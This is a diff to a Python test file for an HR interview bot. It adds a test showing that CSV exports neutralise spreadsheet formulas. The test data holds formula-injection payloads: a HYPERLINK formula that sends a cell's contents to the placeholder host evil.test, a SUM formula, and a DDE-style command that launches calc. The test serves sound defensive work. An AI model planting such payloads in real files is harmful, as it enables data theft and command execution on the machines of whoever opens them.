@@ -3,6 +3,8 @@ set, scheduling across time zones. The platform directory is a fake of our Direc
 
 from __future__ import annotations
 
+import csv
+import io
 from dataclasses import dataclass
 from datetime import UTC, datetime, time
 
@@ -109,8 +111,8 @@ def test_report_and_export_are_audited(desk: HrDesk, app: App, clock: FakeClock)
     clock.advance(minutes=1)
     export = hr(desk, "export 7")
     assert isinstance(export, FileMessage)
-    header, row = export.content.strip().splitlines()
-    assert header.startswith("interview_id,employee,user_id,department")
+    assert export.content.startswith("\ufeffinterview_id,employee,user_id,department")
+    _header, row = export.content.strip().splitlines()
     assert ",Jane Doe,UJANE," in row and ",DECLINED," in row and "career_growth" in row
     with app.engine.connect() as connection:
         actions = connection.execute(
@@ -120,6 +122,26 @@ def test_report_and_export_are_audited(desk: HrDesk, app: App, clock: FakeClock)
         ("report", f"{PLATFORM}:UJANE"),
         ("export", "last 7 days: 1 interviews"),
     ]
+
+
+def test_an_export_opened_in_a_spreadsheet_runs_no_formula(
+    desk: HrDesk, app: App, clock: FakeClock
+) -> None:
+    formulas = {
+        "display_name": '=HYPERLINK("http://evil.test?"&A1,"Jane")',
+        "department": "+SUM(1,2)",
+        "manager": "@cmd|' /C calc'!A0",
+    }
+    app.service.start_now(Person(platform=PLATFORM, user_id="UEVIL", **formulas), by="UHR")
+    for answer in ("1", "stop"):
+        app.service.handle_message(UserMessage(PLATFORM, "UEVIL", answer))
+    clock.advance(minutes=1)
+    export = hr(desk, "export 7")
+    assert isinstance(export, FileMessage)
+    [row] = list(csv.DictReader(io.StringIO(export.content.removeprefix("\ufeff"))))
+    assert row["employee"] == "'" + formulas["display_name"]
+    assert row["department"] == "'+SUM(1,2)" and row["manager"] == "'@cmd|' /C calc'!A0"
+    assert row["user_id"] == "UEVIL" and row["answered"] == "1"
 
 
 def test_digest_numbers_on_a_known_data_set(
